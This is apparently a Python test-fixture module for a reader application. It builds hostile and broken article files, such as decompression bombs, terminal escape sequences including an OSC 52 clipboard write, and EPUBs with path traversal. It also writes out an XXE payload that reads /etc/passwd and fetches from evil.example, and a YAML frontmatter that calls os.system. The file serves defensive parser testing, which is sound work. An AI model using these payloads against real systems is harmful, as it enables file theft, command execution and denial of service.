# ruff: noqa: E501  (hostile bytes written out whole)
"""Hostile and broken article files, made on demand (nothing big is kept in git).

`CASES` are file contents: each names what reader must give for it (an article
showing some text, or an error whose reason says something) so one test can
run them all through the pipeline. `build_tree` makes the filesystem oddities
(FIFOs, symbolic link loops and escapes, names that are not UTF-8 or carry
terminal escapes, folders 1,000 deep) under a folder.

    python -m tests.hostile DIR     # write every case to DIR, to try by hand
"""

from __future__ import annotations

import base64
import codecs
import functools
import gzip
import io
import os
import plistlib
import quopri
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# Every kind of sequence a terminal acts on, and the invisible characters that
# make displayed text lie about itself.
ESCAPES = (
    "\x1b]52;c;cHduZWQ=\x07"  # OSC 52: write the clipboard
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\"  # OSC 8: a hidden link
    "\x1b]0;owned title\x07"  # OSC 0: the window title
    "\x1b[2J\x1b[1;31m"  # CSI: clear the screen, colour
    "\x9b6n\x9d0;c1 title\x9c"  # C1 CSI and OSC
    "\x1bP+q\x1b\\"  # DCS
    "\u202e\u2066\u200b\u2060\U000e0041\ufeff"  # bidi override and isolate, zero-width, tag
)
# The same, as HTML numeric character references.
ESCAPE_REFERENCES = "".join(f"&#{ord(ch)};" for ch in ESCAPES)
MARKUP = "[sic] [/] [@click=app.quit]quit[/] [bold red]red [link=https://evil.example]x"

ARTICLE_WORDS = (
    "The council voted on Tuesday to keep the old harbour bridge open to walkers "
    "while engineers study the cracks found in its northern arch last spring."
)


def paragraphs(count: int = 6) -> str:
    return "\n\n".join(f"{ARTICLE_WORDS} Paragraph {n}." for n in range(1, count + 1))


def html_page(title: str, body: str, head: str = "") -> str:
    return (
        f"<!DOCTYPE html><html><head>{head}<title>{title}</title></head><body><article>"
        f"<h1>{title}</h1>{body}</article></body></html>"
    )


def html_paragraphs(count: int = 6) -> str:
    return "".join(f"<p>{ARTICLE_WORDS} Paragraph {n}.</p>" for n in range(1, count + 1))


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile file: its name, how to make its bytes, and what reader must give.

    `shows` is text the article must contain; `reason` a part of the error's
    reason. A case has one or the other.
    """

    name: str
    make: Callable[[], bytes]
    shows: str | None = None
    reason: str | None = None
    big: bool = False  # tens of megabytes: made once per session, in a temporary folder


def _encoded(codec: str, text: str) -> Callable[[], bytes]:
    bom = {
        "utf-16-le": codecs.BOM_UTF16_LE,
        "utf-16-be": codecs.BOM_UTF16_BE,
        "utf-32-le": codecs.BOM_UTF32_LE,
        "utf-32-be": codecs.BOM_UTF32_BE,
        "utf-8": codecs.BOM_UTF8,
    }[codec]
    return lambda: bom + text.encode(codec)


def _binary() -> bytes:
    generator = random.Random(6)
    return b"\x89PNG\r\n\x1a\n" + bytes(generator.randrange(256) for _ in range(20000))


def _nested(depth: int) -> bytes:
    opening = "<div>" * depth
    closing = "</div>" * depth
    deep = f"{opening}<p>Deep text survives the nesting. {ARTICLE_WORDS}</p>{closing}"
    return html_page("Nested page", html_paragraphs(2) + deep).encode()


def _data_uri() -> bytes:
    image = "data:image/png;base64," + "iVBORw0KGgo" * (10 * 2**20 // 11)
    return html_page("Saved with SingleFile", f'<img src="{image}">' + html_paragraphs()).encode()


def _inline_script() -> bytes:
    script = "<script>var s = '" + "x" * (20 * 2**20) + "';</script>"
    return (
        "<html><head>" + script + "</head><body>" + html_paragraphs() + "</body></html>"
    ).encode()


def _attributes() -> bytes:
    attributes = " ".join(f'data-a{n}="{n}"' for n in range(100_000))
    return html_page("Many attributes", f"<p {attributes}>{ARTICLE_WORDS}</p>").encode()


def _long_line(html: bool) -> Callable[[], bytes]:
    line = ("word " * (20 * 2**20 // 5)).strip()
    if html:
        return lambda: html_page("One long line", f"<p>{line}</p>").encode()
    return lambda: ("One long line\n\n" + line + "\n").encode()


def _million_paragraphs(html: bool) -> Callable[[], bytes]:
    if html:
        return lambda: html_page("A million paragraphs", "<p>Short one.</p>\n" * 1_000_000).encode()
    return lambda: ("A million paragraphs\n\n" + "Short one.\n\n" * 1_000_000).encode()


# ---- containers: mail, archives, web archives, EPUB ----------------------------------

BOMB_BYTES = 33 * 2**20  # decompressed: over the 32 MB a member may hold


def _once(make: Callable[[], bytes]) -> Callable[[], bytes]:
    """`make`, run once a session: a bomb takes a while to compress."""
    return functools.cache(make)


def _mail(body: str = "", *, headers: str = "", html: bool = True) -> bytes:
    kind = "text/html" if html else "text/plain"
    text = body or (html_page("Mailed story", html_paragraphs()) if html else paragraphs())
    return (
        f"From: Letter <letter@example.com>\r\nSubject: Mailed story\r\n{headers}"
        f"MIME-Version: 1.0\r\nContent-Type: {kind}; charset=utf-8\r\n\r\n{text}"
    ).encode()


def _nested_mime(depth: int) -> bytes:
    message = b"Content-Type: text/html\r\n\r\n<p>" + ARTICLE_WORDS.encode() + b"</p>\r\n"
    for level in range(depth):
        message = (
            (f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n').encode()
            + message
            + f"\r\n--b{level}--\r\n".encode()
        )
    return b"Subject: deep\r\nMIME-Version: 1.0\r\n" + message


def _mbox(*messages: bytes) -> bytes:
    return b"".join(
        b"From letter@example.com Mon Jun  2 07:00:00 2025\n" + m.replace(b"\r\n", b"\n") + b"\n\n"
        for m in messages
    )


def _bad_base64() -> bytes:
    body = base64.b64encode(html_page("Broken base64", html_paragraphs()).encode()).decode()
    broken = body[:200] + "!!**" + body[200:-3]  # bad characters, and the padding cut
    return (
        "Subject: Broken base64\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + "\r\n".join(broken[i : i + 76] for i in range(0, len(broken), 76))
    ).encode()


def _bad_quoted_printable() -> bytes:
    body = quopri.encodestring(html_page("Broken QP", html_paragraphs()).encode()).decode()
    return (
        "Subject: Broken QP\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n"
        "\r\n=ZZ=\r\n=4" + body + "=\r\n=E2=80"
    ).encode()


def _zip(members: dict[str, bytes], prelude: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return prelude + buffer.getvalue()


def _epub(
    chapters: dict[str, bytes], opf_head: str = "", hrefs: dict[str, str] | None = None
) -> bytes:
    hrefs = hrefs or {name: name for name in chapters}
    manifest = "".join(
        f'<item id="c{n}" href="{href}" media-type="application/xhtml+xml"/>'
        for n, href in enumerate(hrefs.values())
    )
    spine = "".join(f'<itemref idref="c{n}"/>' for n in range(len(hrefs)))
    members = {
        "mimetype": b"application/epub+zip",
        "META-INF/container.xml": b'<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:'
        b'opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/book.opf"/>'
        b"</rootfiles></container>",
        "OEBPS/book.opf": (
            f'<?xml version="1.0"?>{opf_head}<package xmlns="http://www.idpf.org/2007/opf">'
            f"<metadata/><manifest>{manifest}</manifest><spine>{spine}</spine></package>"
        ).encode(),
    }
    members.update(
        {
            f"OEBPS/{name}" if not name.startswith(("/", "..")) else name: data
            for name, data in chapters.items()
        }
    )
    return _zip(members)


def _chapter(title: str, body: str = "", doctype: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{doctype}<html xmlns="http://www.w3.org/1999/xhtml">'
        f"<head><title>{title}</title></head><body><h1>{title}</h1>{body or html_paragraphs()}"
        "</body></html>"
    ).encode()


_XXE = (
    '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    '<!ENTITY net SYSTEM "http://evil.example/x.dtd">'
    '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
)


def _warc_record(uri: str, body: bytes, headers: str = "") -> bytes:
    http = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{headers}\r\n".encode() + body
    return (
        (
            "WARC/1.0\r\nWARC-Type: response\r\nWARC-Date: 2025-06-03T10:00:00Z\r\n"
            f"WARC-Record-ID: <urn:uuid:{abs(hash(uri)):032x}>\r\nWARC-Target-URI: {uri}\r\n"
            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(http)}\r\n\r\n"
        ).encode()
        + http
        + b"\r\n\r\n"
    )


def _warc_truncated(compressed: bool) -> bytes:
    good = _warc_record(
        "https://example.com/a", html_page("Archived page", html_paragraphs()).encode()
    )
    cut = _warc_record("https://example.com/b", html_page("Cut page", html_paragraphs()).encode())
    cut = cut[: len(cut) // 2]
    if compressed:
        return gzip.compress(good) + gzip.compress(cut)[:-20]
    return good + cut


def _warc_bomb() -> bytes:
    bomb = gzip.compress(b"<p>" + b" " * BOMB_BYTES)
    return gzip.compress(
        _warc_record(
            "https://example.com/bomb",
            bomb,
            f"Content-Encoding: gzip\r\nContent-Length: {len(bomb)}\r\n",
        )
    ) + gzip.compress(
        _warc_record(
            "https://example.com/a", html_page("After the bomb", html_paragraphs()).encode()
        )
    )


def _webarchive(data: bytes) -> bytes:
    return plistlib.dumps(
        {"WebMainResource": {"WebResourceData": data, "WebResourceMIMEType": "text/html"}},
        fmt=plistlib.FMT_BINARY,
    )


CONTAINER_CASES: tuple[Case, ...] = (
    Case(
        "bomb.html.gz",
        lambda: gzip.compress(b" " * BOMB_BYTES),
        reason="too large when decompressed",
    ),
    Case(
        "cut.html.gz",
        lambda: gzip.compress(html_page("Cut", html_paragraphs()).encode())[:-30],
        reason="cut short",
    ),
    Case(
        "bomb.zip.html",
        _once(lambda: _zip({"index.html": b"<p>" + b" " * BOMB_BYTES}, b"<html>")),
        reason="too large",
    ),
    Case(
        "bomb.epub",
        _once(
            lambda: _epub(
                {"bomb.xhtml": b"<p>" + b" " * BOMB_BYTES, "ok.xhtml": _chapter("After the bomb")}
            )
        ),
        shows="harbour bridge",
    ),
    Case(
        "traversal.epub",
        lambda: _epub(
            {
                "../../evil.xhtml": _chapter("Evil"),
                "/etc/evil.xhtml": _chapter("Evil"),
                "ok.xhtml": _chapter("Inside the book"),
            },
            hrefs={"a": "../../../evil.xhtml", "b": "/etc/evil.xhtml", "c": "ok.xhtml"},
        ),
        shows="Inside the book",
    ),
    Case(
        "entities.epub",
        lambda: _epub(
            {
                "ok.xhtml": _chapter(
                    "Entities stay unread",
                    f"<p>&xxe;&net;&lol4; {ARTICLE_WORDS}</p>" + html_paragraphs(),
                    doctype=_XXE,
                )
            },
            opf_head=_XXE.replace("html", "package"),
        ),
        shows="Entities stay unread",
    ),
    Case(
        "no-package.epub", lambda: _zip({"mimetype": b"application/epub+zip"}), reason="no package"
    ),
    Case("not-a-zip.epub", lambda: b"PK\x03\x04 this is not a zip" * 10, reason="not a ZIP"),
    Case("nested.eml", lambda: _nested_mime(1000), reason="nested too deeply"),
    Case("nested.mbox", lambda: _mbox(_nested_mime(1000), _mail()), shows="harbour bridge"),
    Case("bad-base64.eml", _bad_base64, shows="harbour bridge"),
    Case("bad-qp.eml", _bad_quoted_printable, shows="harbour bridge"),
    Case("empty.mbox", lambda: b"From nobody Mon Jun  2 07:00:00 2025\n\n", reason="no"),
    Case("truncated.warc", lambda: _warc_truncated(False), shows="Archived page"),
    Case("truncated.warc.gz", lambda: _warc_truncated(True), shows="Archived page"),
    Case("bomb.warc.gz", _once(_warc_bomb), shows="After the bomb"),
    Case(
        "not-a-plist.webarchive",
        lambda: b"<html><p>" + ARTICLE_WORDS.encode() + b"</p></html>",
        reason="not a Safari web archive",
    ),
    Case(
        "cycle.webarchive",
        lambda: b"bplist00\xa1\x00\x08" + bytes(6) + b"\x01\x01" + struct.pack(">QQQ", 1, 0, 10),
        reason="not a Safari web archive",
    ),
    Case(
        "escapes.webarchive",
        lambda: _webarchive(html_page(f"Title {ESCAPES} here", html_paragraphs()).encode()),
        shows="Title link here",
    ),
    Case(
        "frontmatter-bomb.md",
        lambda: (
            "---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
            "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
            "author: *d\ntitle: !!python/object/apply:os.system ['echo owned']\n---\n"
            + paragraphs()
        ).encode(),
        shows="harbour bridge",
    ),
)

# A 500 MB mailbox: two messages with a hole of zeros between them (made
# sparse, so it costs no disk); the hole is one message too large to read.
HUGE_MBOX = "huge.mbox"
HUGE_MBOX_BYTES = 500 * 2**20


def write_huge_mbox(path: Path) -> None:
    first = _mbox(_mail())
    last = b"\n" + _mbox(_mail(html_page("The last letter", html_paragraphs())))
    with path.open("wb") as file:
        file.write(first + b"From hole@example.com Mon Jun  2 07:00:00 2025\nSubject: hole\n\n")
        file.truncate(HUGE_MBOX_BYTES)
        file.seek(HUGE_MBOX_BYTES)
        file.write(last)


CASES: tuple[Case, ...] = (
    # Terminal escapes and markup, raw and as character references.
    Case(
        "escapes.txt",
        lambda: (f"Title {ESCAPES} here\n\n{paragraphs(3)}\n\nEnd {ESCAPES} of it.\n").encode(),
        shows="Title link here",
    ),
    Case(
        "escapes.html",
        lambda: html_page(
            f"Title {ESCAPE_REFERENCES} here",
            html_paragraphs(3) + f"<p>End {ESCAPE_REFERENCES} {ESCAPES} of it. {ARTICLE_WORDS}</p>",
            head=f'<meta property="og:site_name" content="Site {ESCAPE_REFERENCES}">',
        ).encode(),
        shows="Title link",
    ),
    Case("markup.txt", lambda: f"{MARKUP}\n\n{paragraphs(3)} {MARKUP}\n".encode(), shows=MARKUP),
    Case("markup.html", lambda: html_page(MARKUP, html_paragraphs(3)).encode(), shows=MARKUP),
    # Encodings.
    Case("utf16le.txt", _encoded("utf-16-le", "Café talks\n\n" + paragraphs()), shows="Café talks"),
    Case("utf16be.html", _encoded("utf-16-be", html_page("Café", html_paragraphs())), shows="Café"),
    Case("utf32le.txt", _encoded("utf-32-le", "Café talks\n\n" + paragraphs()), shows="Café talks"),
    Case("utf32be.html", _encoded("utf-32-be", html_page("Café", html_paragraphs())), shows="Café"),
    Case("bom.txt", _encoded("utf-8", "Café talks\n\n" + paragraphs()), shows="Café talks"),
    Case(
        "utf8-declared-1252.html",
        lambda: html_page(
            "Café – “quoted”", html_paragraphs(), head='<meta charset="windows-1252">'
        ).encode(),
        shows="Café – “quoted”",
    ),
    Case(
        "unknown-charset.html",
        lambda: html_page(
            "Plain title", html_paragraphs(), head='<meta charset="x-no-such">'
        ).encode(),
        shows="Plain title",
    ),
    Case(
        "malformed-charset.html",
        lambda: html_page(
            "Plain title",
            html_paragraphs(),
            head='<meta http-equiv="Content-Type" content="text/html; charset=utf-8;;\'\x00">',
        ).encode(),
        shows="Plain title",
    ),
    Case(
        "latin1-undeclared.txt",
        lambda: ("Caf\xe9 talks\n\n" + paragraphs()).encode("latin-1"),
        shows="talks",
    ),
    Case(
        "nul-bytes.txt",
        lambda: ("NUL\x00 title\n\n" + paragraphs().replace("bridge", "bri\x00dge")).encode(),
        shows="bridge",
    ),
    Case(
        "invalid-utf8.html",
        lambda: (
            html_page("Bad \udcff bytes", html_paragraphs())
            .encode("utf-8", "surrogateescape")
            .replace(b"old", b"o\xc3\x28ld")
        ),
        shows="bytes",
    ),
    Case("binary.html", _binary, reason="binary"),
    Case("binary.txt", _binary, reason="binary"),
    Case("empty.html", lambda: b"", reason="empty"),
    Case("blank.txt", lambda: b" \n\t\r\n  \n", reason="blank"),
    Case(
        "no-text.html",
        lambda: b"<html><body><img src=x><script>1</script></body></html>",
        reason="no text",
    ),
    # Size and shape.
    Case("nested-300.html", lambda: _nested(300), shows="Deep text survives"),
    Case("nested-5000.html", lambda: _nested(5000), shows="Deep text survives"),
    Case("attributes.html", _attributes, shows="harbour bridge"),
    Case("data-uri.html", _data_uri, shows="harbour bridge", big=True),
    Case("inline-script.html", _inline_script, shows="harbour bridge", big=True),
    Case("long-line.txt", _long_line(html=False), shows="word word", big=True),
    Case("long-line.html", _long_line(html=True), shows="word word", big=True),
    Case("million.txt", _million_paragraphs(html=False), reason="too many paragraphs", big=True),
    Case("million.html", _million_paragraphs(html=True), reason="too many elements", big=True),
    *CONTAINER_CASES,
)

# Far over the size limit: made sparse, so it costs no disk.
HUGE_NAME = "huge.html"
HUGE_BYTES = 100 * 2**20


def write_cases(folder: Path, *, big: bool = True, containers: bool = True) -> dict[str, Case]:
    """Write the cases (and the 100 MB file) into `folder`; returns them by name.
    `containers=False` leaves out the mailboxes, archives and EPUBs."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for case in CASES:
        if (case.big and not big) or (case in CONTAINER_CASES and not containers):
            continue
        (folder / case.name).write_bytes(case.make())
        written[case.name] = case
    with (folder / HUGE_NAME).open("wb") as file:
        file.truncate(HUGE_BYTES)
    written[HUGE_NAME] = Case(HUGE_NAME, bytes, reason="too large")
    return written


# File names that are not valid UTF-8, or that carry escapes and markup.
ODD_NAMES: tuple[bytes, ...] = (
    b"latin1-caf\xe9.txt",
    b"bad-\xff\xfe.html",
    b"\x1b]0;owned\x07title\x1b[2J.txt",
    b"[@click=app.quit]click me[bold].txt",
    "\u202eevil\u202c.txt".encode(),
    b"tab\there\nnewline.txt",
)


def build_tree(root: Path, outside: Path) -> None:
    """Filesystem oddities under `root`; `outside` is a folder out of the library
    that links point to."""
    root.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.txt").write_text("Outside the library\n\n" + paragraphs(2))
    (root / "plain.txt").write_text("A plain article\n\n" + paragraphs())
    os.mkfifo(root / "fifo.html")
    os.symlink(root / "loop-b.html", root / "loop-a.html")
    os.symlink(root / "loop-a.html", root / "loop-b.html")
    os.symlink(root, root / "loop-folder")
    os.symlink(outside / "secret.txt", root / "out.txt")
    os.symlink(outside, root / "out-folder")
    os.symlink(root / "missing.txt", root / "dangling.txt")
    for name in ODD_NAMES:
        with open(os.path.join(os.fsencode(root), name), "wb") as file:
            file.write(b"Odd name\n\n" + paragraphs(2).encode())
    deep = os.fsencode(root) + b"/deep"
    os.mkdir(deep)
    for _ in range(999):  # os.makedirs recurses once a level: too deep for it
        deep += b"/d"
        os.mkdir(deep)
    with open(deep + b"/bottom.txt", "wb") as file:
        file.write(b"At the bottom\n\n" + paragraphs(2).encode())


def remove_tree(root: Path) -> None:
    """Remove what `build_tree` made (shutil.rmtree and os.walk recurse once a
    level: too deep for them)."""
    folders, stack = [], [os.fsencode(root)]
    while stack:
        folder = stack.pop()
        folders.append(folder)
        with os.scandir(folder) as entries:
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    stack.append(entry.path)
                else:
                    os.unlink(entry.path)
    for folder in reversed(folders):
        os.rmdir(folder)


def main() -> None:
    import sys

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    write_cases(target / "files")
    build_tree(target / "tree", target / "outside")
    print(f"wrote {len(CASES) + 1} files to {target / 'files'}, and a tree to {target / 'tree'}")
